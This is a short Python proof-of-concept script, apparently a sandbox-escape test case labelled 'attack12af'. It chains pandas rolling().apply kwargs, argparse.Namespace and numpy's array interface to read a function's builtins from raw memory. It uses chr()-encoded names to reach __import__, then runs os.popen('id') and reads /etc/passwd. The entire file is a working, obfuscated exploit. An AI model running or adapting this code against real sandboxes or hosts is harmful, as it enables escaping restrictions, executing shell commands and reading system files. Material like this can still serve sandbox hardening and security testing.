# source: pandas Rolling.apply(func, raw, engine, engine_kwargs, args, kwargs) docs; attack12af argparse Namespace finding
# family: dict with run-time keys passed as pandas rolling().apply(kwargs=...) -> def's own **kw spread into argparse.Namespace: setattr by run-time name
# goal: object array at a function's address+24 (func_builtins, address from repr()) -> builtins -> __import__('os').popen('id'), open('/etc/passwd')
import argparse
import numpy as np
import pandas as pd

made = []


def collect(window, **kw):
    made.append(argparse.Namespace(**kw))
    return 0.0


def probe():
    return 1


def w(*codes):
    return "".join(map(chr, codes))


u = chr(95) * 2
key = u + "array" + chr(95) + "interface" + u
addr = int(repr(probe).split()[-1].rstrip(">"), 16)
spec = {"shape": (1,), "typestr": "|O8", "data": (addr + 24, False), "version": 3}
pd.Series([1.0, 2.0]).rolling(1).apply(collect, raw=True, kwargs={key: spec})
arr = np.asarray(made[0])
bi = arr[0]
print(type(bi), len(bi))
imp = bi[u + "import" + u]
ga = bi[w(103, 101, 116, 97, 116, 116, 114)]
osm = imp(w(111, 115))
print(osm)
print(ga(osm, w(112, 111, 112, 101, 110))(w(105, 100)).read())
print(bi[w(111, 112, 101, 110)](w(47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100)).read()[:120])
